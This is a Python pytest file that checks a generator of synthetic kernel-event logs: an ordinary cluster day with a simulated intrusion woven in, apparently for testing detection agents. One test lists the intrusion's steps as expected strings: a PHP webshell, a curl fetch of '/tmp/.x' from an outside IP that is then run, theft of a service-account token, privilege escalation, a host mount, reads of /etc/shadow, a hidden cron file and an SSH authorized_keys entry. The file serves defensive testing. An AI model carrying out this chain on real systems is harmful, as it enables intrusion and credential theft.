import json
from base64 import b64decode
from collections import Counter
from hashlib import sha256
from itertools import pairwise
from typing import Any, TypeAlias

import pytest

from examples.story import INTRUDERS_PIDS, MINUTE, Line, intrusion, ordinary, story

SEED, NODES, MINUTES, RATE = 3, 12, 6.0, 20.0
Events: TypeAlias = list[tuple[str, dict[str, Any]]]  # kind, and body with the event's time as `at`


@pytest.fixture(scope="module")
def day() -> list[Line]:
    return list(ordinary(SEED, NODES, MINUTES, RATE))


@pytest.fixture(scope="module")
def attack() -> list[Line]:
    return list(intrusion(SEED, NODES, MINUTES))


@pytest.fixture(scope="module")
def told() -> list[Line]:
    return list(story(SEED, NODES, MINUTES, RATE))


@pytest.fixture(scope="module")
def events(day: list[Line]) -> Events:
    return read(day)


def read(lines: list[Line]) -> Events:
    found = []
    for _, _, line in lines:
        event = json.loads(line)
        kind = next(iter(event))
        found.append((kind, event[kind] | {"at": event.get("time")}))
    return found


def test_the_same_seed_gives_the_same_bytes(attack: list[Line]) -> None:
    assert list(ordinary(SEED, 2, 1.0, RATE)) == list(ordinary(SEED, 2, 1.0, RATE))
    assert list(intrusion(SEED, NODES, MINUTES)) == attack
    assert list(intrusion(SEED + 1, NODES, MINUTES)) != attack


def test_the_ordinary_day_is_the_one_that_agents_are_tuned_on() -> None:
    """Whoever changes it looks again at what the agents say of it."""
    log = b"".join(line for _, _, line in ordinary(seed=1, nodes=4, minutes=2, rate=20))

    assert sha256(log).hexdigest() == "f9721fa91a0d3e2c1eec31a91e6358e2628609a204504dbd07efbf1c5a5213c7"


def test_the_story_is_the_ordinary_day_and_the_intrusion_among_it(
    told: list[Line], day: list[Line], attack: list[Line]
) -> None:
    of_attack = set(attack)

    assert [line for line in told if line not in of_attack] == day
    assert [line for line in told if line in of_attack] == attack


def test_there_are_as_many_events_a_second_as_asked_for(day: list[Line]) -> None:
    assert len(day) == pytest.approx(RATE * 60 * MINUTES, rel=0.05)


def test_events_come_in_order_of_time_and_no_two_are_alike(told: list[Line]) -> None:
    assert all(earlier[0] <= later[0] for earlier, later in pairwise(told))
    assert len({line for _, _, line in told}) == len(told)


def test_an_exec_id_names_node_time_and_pid_and_the_time_fits_the_start(day: list[Line], events: Events) -> None:
    boots = set()
    for (_, node, _), (_, body) in zip(day, events, strict=True):
        process = body["process"]
        name, ktime, pid = b64decode(process["exec_id"]).decode().split(":")
        assert (name, int(pid)) == (node, process["pid"])
        seconds = process["start_time"].rstrip("Z").partition(".")[2].ljust(9, "0")
        boots.add((node, (int(seconds) - int(ktime)) % 10**9))

    assert len(boots) == NODES


def test_a_parent_was_executed_before_or_is_a_fork_that_nothing_told_of(told: list[Line]) -> None:
    executed: set[str] = set()
    forks = 0
    for kind, body in read(told):
        process, parent = body["process"], body["parent"]
        assert parent["exec_id"] == process["parent_exec_id"]
        if kind == "process_exec":
            assert process["exec_id"] not in executed
            executed.add(process["exec_id"])
        for each in (process, parent):
            is_fork = each["flags"].split()[0] == "clone"
            forks += is_fork
            assert is_fork or each["pid"] == 0 or each["exec_id"] in executed

    assert forks > 10


def test_every_kind_of_event_comes_on_an_ordinary_day(events: Events) -> None:
    kinds = Counter(kind for kind, _ in events)

    assert set(kinds) == {"process_exec", "process_exit", "process_kprobe", "process_loader", "process_lsm"}
    assert kinds["process_kprobe"] > len(events) / 3


def test_no_hook_betrays_the_intrusion_by_being_seen_at_all(events: Events, attack: list[Line]) -> None:
    def hooks(found: Events) -> set[str]:
        return {body.get("function_name", kind) for kind, body in found}

    assert hooks(read(attack)) <= hooks(events)


def test_a_loader_event_has_no_time_and_every_other_has_one(events: Events) -> None:
    timeless = {kind for kind, body in events if body["at"] is None}

    assert timeless == {"process_loader"}


def test_sixty_four_bits_are_a_string_and_nodes_differ_in_white_space(day: list[Line], events: Events) -> None:
    socks = [body["args"][0]["sock_arg"] for _, body in events if body.get("function_name") == "tcp_connect"]
    last = {node: line for _, node, line in day}

    assert all(sock["cookie"].isdecimal() for sock in socks)
    assert b', "' in last["node-01"]
    assert b', "' not in last["node-02"]


def test_the_intrusion_takes_its_steps_in_order_on_one_node_in_the_middle_of_the_time(attack: list[Line]) -> None:
    shown = iter(line.decode().replace(", ", ",") for _, _, line in attack)
    steps = (
        "uploads/2026/01/avatar.php",
        '"binary":"/usr/bin/id"',
        '"arguments":"-fsSL http://203.0.113.77:8080/x -o /tmp/.x"',
        '"binary":"/tmp/.x"',
        "serviceaccount/..2026_01_05_03_12_44.2715319183/token",
        '"return":{"int_arg":-13}',
        "PRIVILEGES_RAISED_EXEC_FILE_SETUID",
        '"function_name":"commit_creds"',
        '"function_name":"file_open"',
        '"function_name":"__x64_sys_mount"',
        '"path":"/host/etc/shadow"',
        '"path":"/host/etc/cron.d/.sysstat-update"',
        '"function_name":"security_path_unlink"',
        '"path":"/root/.ssh/authorized_keys"',
    )
    for step in steps:
        assert any(step in line for line in shown), f"not found, or not after the step before it: {step}"

    assert len({node for _, node, _ in attack}) == 1
    assert MINUTES * MINUTE / 4 <= attack[-1][0] - attack[0][0] <= MINUTES * MINUTE / 2


def test_the_intruders_pids_are_no_ordinary_ones(events: Events, attack: list[Line]) -> None:
    assert not {body["process"]["pid"] for _, body in events} & set(INTRUDERS_PIDS)
    assert {body["process"]["pid"] for kind, body in read(attack) if kind == "process_exec"} <= set(INTRUDERS_PIDS)


@pytest.mark.parametrize(("nodes", "minutes", "rate"), [(1, 0.05, 2_000.0), (1, 0.5, 0.5), (3, 1.0, 100.0)])
def test_short_quick_and_slow_days_are_told_as_well(nodes: int, minutes: float, rate: float) -> None:
    told = list(ordinary(SEED, nodes, minutes, rate))
    running = [line for line in told if b'"procFS' not in line[2][:600]]

    assert running
    assert list(intrusion(SEED, nodes, minutes))[-1][0] <= running[0][0] + minutes * MINUTE
